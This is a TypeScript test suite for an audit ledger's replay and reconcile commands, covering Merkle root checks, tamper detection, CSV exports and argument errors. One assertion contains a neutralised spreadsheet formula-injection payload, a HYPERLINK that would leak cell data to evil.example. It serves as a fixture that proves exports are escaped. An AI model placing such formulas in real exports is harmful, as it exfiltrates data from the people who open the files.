import { copyFileSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { generateSigningKeyPem } from "@relief-ledger/audit";
import { openSqliteEventStore, type EventStore } from "@relief-ledger/event-store";
import { openProjector } from "@relief-ledger/projections";
import {
  appendEvents,
  cbo,
  distribution,
  donor,
  FORMULA_DISTRICT,
  fund,
  resolution,
  uid,
  voidOf,
} from "@relief-ledger/projections/testing";
import Database from "better-sqlite3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiKey, staticKeyring } from "@relief-ledger/http";
import { buildQueryApp, followReadModel, openReplays, REPLAY_FILES, type ReplayStatus } from "@relief-ledger/query";
import type { Report } from "@relief-ledger/replay";
import { ledger } from "../testing/capture.testkit.js";

const dir = mkdtempSync(join(tmpdir(), "ledger-replay-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const path = (name: string) => join(dir, name);
const STORE = ["--store", path("events.db")];
/** The live read model as the projector left it at the moment; and the one that went on after it. */
const THEN = ["--read-model", path("live-then.db")];
const NOW = ["--read-model", path("live-now.db")];
const [SANGAMA, VAMP] = ["sangama-blr", "vamp-sangli"];

const PHASE_ONE = [
  cbo(SANGAMA),
  // A district planted to run as a formula in the auditor's spreadsheet.
  cbo(VAMP, "IN-MH", FORMULA_DISTRICT),
  donor("azim-trust"),
  fund({ fund: 1, cboId: SANGAMA, amountPaise: 150_000, receivedOn: "2021-04-01" }),
  distribution({ id: 11, cboId: SANGAMA, on: "2021-05-01", people: [1] }),
  distribution({ id: 12, cboId: SANGAMA, on: "2021-05-10", people: [1] }),
  distribution({ id: 21, cboId: VAMP, on: "2021-05-03", people: [2], service: "art_medicine" }),
  resolution(12, "dismissed", "a second kit was allowed"),
];
const PHASE_TWO = [
  distribution({ id: 13, cboId: SANGAMA, on: "2021-05-20", people: [1] }),
  fund({ fund: 2, cboId: VAMP, amountPaise: 100_000, receivedOn: "2021-06-01" }),
  voidOf(11, SANGAMA),
];

let moment = "";
let signedPosition = 0n;
let momentPosition = 0n;
// Counts of events, never differences of positions (positions are opaque on EventStoreDB).
let signedEvents = 0;
let momentEvents = 0;
let livePosition = 0n;

async function project(store: EventStore, file: string): Promise<void> {
  const projector = openProjector({ store, file });
  await projector.runOnce();
  await projector.close();
}

// Two phases with a real gap between them: everything before `moment` was recorded at or before
// it by the store's clock, everything after later, whatever the machine's speed.
beforeAll(async () => {
  writeFileSync(path("key.pem"), generateSigningKeyPem(), { mode: 0o600 });
  const store = openSqliteEventStore({ file: path("events.db") });
  await appendEvents(store, PHASE_ONE);
  signedPosition = await store.headPosition();
  signedEvents = await store.countEventsAfter(0n, 1_000_000);
  const index = ["--index", path("merkle.db")];
  expect((await ledger(["sign-head", ...STORE, ...index, "--catch-up", "--key", path("key.pem")])).code).toBe(0);
  await project(store, path("live-then.db"));
  momentPosition = await store.headPosition();
  momentEvents = await store.countEventsAfter(0n, 1_000_000);
  moment = new Date().toISOString();
  while (Date.now() <= Date.parse(moment)) await new Promise((resolve) => setTimeout(resolve, 2));
  await appendEvents(store, PHASE_TWO);
  await project(store, path("live-now.db"));
  livePosition = await store.headPosition();
  await store.close();
});

const readReport = (out: string): Report => JSON.parse(readFileSync(join(out, "report.json"), "utf8")) as Report;
const report = (out: string) => join(out, "report.json");
const replay = (out: string, ...point: string[]) => ledger(["replay", ...point, ...STORE, "--out", path(out)]);

describe("ledger replay and ledger reconcile", () => {
  it("on a terminal, replay shows a bar for each pass with the rate and the time left", async () => {
    const replayed = await ledger(
      ["replay", "--position", String(momentPosition), ...STORE, "--out", path("tty")],
      {},
      true,
    );
    expect(replayed.code).toBe(0);
    const n = momentEvents;
    expect(replayed.stderr).toMatch(
      new RegExp(`hashing the log \\[.*\\] \\d+% \\| ${n}/\\d+ events \\| [\\d,]+ events/s \\| ETA`),
    );
    expect(replayed.stderr).toMatch(new RegExp(`replaying \\[.*\\] 100% \\| ${n}/${n} events \\| [\\d,]+ events/s`));
  });

  it("replay as of a moment equals the live read model as it stood at that moment", async () => {
    const replayed = await replay("as-of", "--as-of", moment);
    expect(replayed).toMatchObject({ code: 0, stderr: "" });
    expect(replayed.stdout).toMatch(new RegExp(`^Replayed ${momentEvents} events \\(position ${momentPosition},`));
    const { replayed: events, head, tables } = readReport(path("as-of"));
    expect(events).toMatchObject({ events: momentEvents, lastPosition: String(momentPosition) });
    expect(head).toMatchObject({ treeSize: momentEvents, signedHead: { treeSize: signedEvents } });
    expect(head.signedHead?.rootMatches).toBe(true);
    expect(tables.flags).toEqual([
      expect.objectContaining({ flagId: uid(12), status: "resolved", verdict: "dismissed" }),
    ]);
    expect(tables["cbo-totals"]).toContainEqual(
      expect.objectContaining({ cboId: SANGAMA, service: "all", distributions: 2, attributedPaise: 150_000 }),
    );

    const reconciled = await ledger(["reconcile", report(path("as-of")), ...THEN]);
    expect(reconciled).toMatchObject({ code: 0, stderr: "" });
    expect(reconciled.stdout).toBe(
      `The report and the live read model are both at position ${momentPosition}.\n` +
        "No differences: every row of the report equals the live read model.\n",
    );
  });

  it("replay to a position likewise, byte for byte the same each time, and equal to the report as of the moment", async () => {
    expect((await replay("position", "--position", String(momentPosition))).code).toBe(0);
    expect((await replay("position-again", "--position", String(momentPosition))).code).toBe(0);
    const files = readdirSync(path("position")).filter((file) => file !== "read-model.db");
    expect(files.sort()).toEqual([
      "cbo-totals.csv",
      "coalition-totals.csv",
      "donor-attribution.csv",
      "flags.csv",
      "report.json",
    ]);
    for (const file of files) {
      expect(readFileSync(path(`position-again/${file}`), "utf8"), file).toBe(
        readFileSync(path(`position/${file}`), "utf8"),
      );
    }
    const cboTotals = readFileSync(path("position/cbo-totals.csv"), "utf8");
    expect(cboTotals).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",`);
    expect(cboTotals).not.toMatch(/(^|,)"?=/m);
    expect(readFileSync(path("position/flags.csv"), "utf8")).toMatch(
      /^flagId,personId,.*\n0{8}-0000-7000-8000-0{10}0c,/,
    );
    expect((await ledger(["reconcile", report(path("position")), ...THEN])).code).toBe(0);
    const against = await ledger(["reconcile", report(path("position")), "--against", report(path("as-of"))]);
    expect(against).toMatchObject({ code: 0, stdout: expect.stringMatching(/No differences/) });
  });

  it("recomputes the Merkle root the signed head signed, and covers the whole log as of a day to come", async () => {
    expect((await replay("signed", "--position", String(signedPosition))).code).toBe(0);
    const signed = readReport(path("signed")).head;
    expect(signed).toMatchObject({ treeSize: signedEvents, signedHead: null });
    expect(signed.rootHash).toBe(readReport(path("as-of")).head.signedHead?.rootHash);
    expect((await replay("future", "--as-of", "2999-12-31")).code).toBe(0);
    expect((await ledger(["reconcile", report(path("future")), ...NOW])).code).toBe(0);
    expect((await replay("past", "--as-of", "2000-01-01")).stdout).toMatch(/^Replayed 0 events \(an empty log/);
    expect(readReport(path("past")).head.rootHash).toBe(
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    );
  });

  it("a replay started through the query service's route gives the same bytes as ledger replay, file for file", async () => {
    const auditor = createApiKey({ role: "auditor" });
    const replays = openReplays({ dir: path("service-replays"), store: `sqlite:${path("events.db")}` });
    const app = await buildQueryApp({
      readModel: followReadModel(path("live-now.db"), 0),
      replays,
      keyring: staticKeyring([auditor.record]),
      logger: false,
    });
    const as = { authorization: `Bearer ${auditor.token}` };
    try {
      expect((await replay("cli-as-of", "--as-of", moment)).code).toBe(0);
      const started = await app.inject({
        method: "POST",
        url: "/v1/audit/replays",
        headers: as,
        payload: { asOf: moment },
      });
      expect(started.statusCode, started.body).toBe(202);
      const { replayId } = started.json<ReplayStatus>();
      await expect
        .poll(async () => (await app.inject({ url: `/v1/audit/replays/${replayId}`, headers: as })).json().state, {
          timeout: 20_000,
        })
        .toBe("done");
      for (const file of REPLAY_FILES) {
        const served = await app.inject({ url: `/v1/audit/replays/${replayId}/files/${file}`, headers: as });
        expect(served.statusCode, file).toBe(200);
        expect(served.rawPayload.equals(readFileSync(path(`cli-as-of/${file}`))), file).toBe(true);
      }
    } finally {
      await app.close();
      await replays.close();
    }
  });

  it("exit 1, with the report written, when the replayed events do not give the root of a signed head", async () => {
    copyFileSync(path("events.db"), path("tampered.db"));
    const db = new Database(path("tampered.db"));
    db.prepare("UPDATE events SET data = replace(data, 'kit was allowed', 'kit was due') WHERE type = ?").run(
      "DuplicateFlagResolved",
    );
    db.close();
    const out = path("tampered");
    const result = await ledger(["replay", "--as-of", moment, "--store", path("tampered.db"), "--out", out]);
    expect(result).toMatchObject({ code: 1, stdout: expect.stringMatching(/DOES NOT match them: run ledger verify/) });
    expect(result.stderr).toMatch(
      `ledger: the first ${signedEvents} events replayed do not give the root the head at position ${momentPosition} signed`,
    );
    expect(readReport(out).head.signedHead).toMatchObject({ rootMatches: false });
    expect((await ledger(["reconcile", report(out), "--against", report(path("as-of"))])).stdout).toMatch(
      /^ {2}flags flagId=\S+ note: report "a second kit was due", other "a second kit was allowed"$/m,
    );
  });

  it("lists the differences with a live read model that went on, saying it is ahead", async () => {
    const result = await ledger(["reconcile", report(path("as-of")), ...NOW]);
    expect(result.code).toBe(1);
    const live = livePosition;
    expect(result.stdout).toContain(
      `The report is at position ${momentPosition}; the live read model is at position ${live}, ahead of it`,
    );
    expect(result.stdout).toContain(`  flags flagId=${uid(13)} (row): report absent, live present\n`);
    expect(result.stdout).toContain(
      `  cbo-totals cboId=${VAMP} service=all month=all receivedPaise: report 0, live 100000\n`,
    );
    expect(result.stderr).toMatch(/^ledger: \d+ differences between the report and the live read model\n$/);
  });

  it("finds and names a difference planted in a report", async () => {
    const planted = readReport(path("as-of"));
    const sangama = planted.tables["cbo-totals"].find((row) => row.cboId === SANGAMA && row.month === "all")!;
    sangama.valuePaise = 1;
    planted.tables.flags = [];
    writeFileSync(path("planted.json"), JSON.stringify(planted));
    const result = await ledger(["reconcile", path("planted.json"), ...THEN]);
    expect(result).toMatchObject({
      code: 1,
      stderr: "ledger: 2 differences between the report and the live read model\n",
    });
    expect(result.stdout.split("\n").slice(1)).toEqual([
      "2 differences:",
      `  cbo-totals cboId=${SANGAMA} service=all month=all valuePaise: report 1, live 200000`,
      `  flags flagId=${uid(12)} (row): report absent, live present`,
      "",
    ]);
    const json = await ledger(["reconcile", path("planted.json"), ...THEN, "--json"]);
    expect(JSON.parse(json.stdout)).toMatchObject({
      equal: false,
      differences: [
        { table: "cbo-totals", key: { cboId: SANGAMA }, field: "valuePaise", report: 1, live: 200_000 },
        {},
      ],
    });
    const other = await ledger(["reconcile", path("planted.json"), "--against", report(path("future"))]);
    expect(other.code).toBe(1);
    expect(other.stdout).toMatch(/^ {2}head rootHash: report [0-9a-f]{64}, other [0-9a-f]{64}$/m);
  });

  it.each([
    [["replay", "--as-of", "2025-01-15", "--position", "3", "--out", "x"], /give --as-of or --position, not both/],
    [["replay", "--out", "x"], /give --as-of DATE .* or --position N/],
    [["replay", "--as-of", "2025-02-30", "--out", "x"], /--as-of must be a UTC day \(2025-01-15\) or an ISO 8601/],
    [["replay", "--position", "last", "--out", "x"], /--position must be a whole number/],
    [["replay", "--position", "3"], /required option '--out <dir>'/],
    [["replay", "--position", "3", "--out", dir], /--out .* is not empty/],
    [["replay", "--position", "3", "--store", path("absent.db"), "--out", "x"], /no event store at .*absent\.db/],
    [["reconcile", path("absent.json")], /cannot read the report .*absent\.json \(ENOENT\)/],
    [["reconcile", path("key.pem")], /key\.pem is not JSON/],
    [["reconcile", path("events.db"), "--read-model", path("live-then.db")], /is not JSON/],
    [
      ["reconcile", report(path("as-of")), ...THEN, "--against", report(path("as-of"))],
      /--read-model or --against, not both/,
    ],
    [["reconcile", report(path("as-of")), "--read-model", path("absent.db")], /no read model at .*absent\.db/],
    [
      ["reconcile", report(path("as-of")), "--read-model", path("events.db")],
      /cannot read .*events\.db as a read model/,
    ],
  ])("refuses %j with exit code 2 and a message naming what to fix", async (argv, message) => {
    const result = await ledger(argv.map((arg) => (arg === "x" ? path("never-written") : arg)));
    expect(result).toMatchObject({ code: 2, stderr: expect.stringMatching(message) });
  });

  it("refuses a JSON file that is not a report with exit code 2", async () => {
    writeFileSync(path("other.json"), JSON.stringify({ format: "relief-ledger/inclusion-proof/v1" }));
    const result = await ledger(["reconcile", path("other.json"), ...THEN]);
    expect(result).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/is not a reconciliation report: its format/),
    });
  });
});
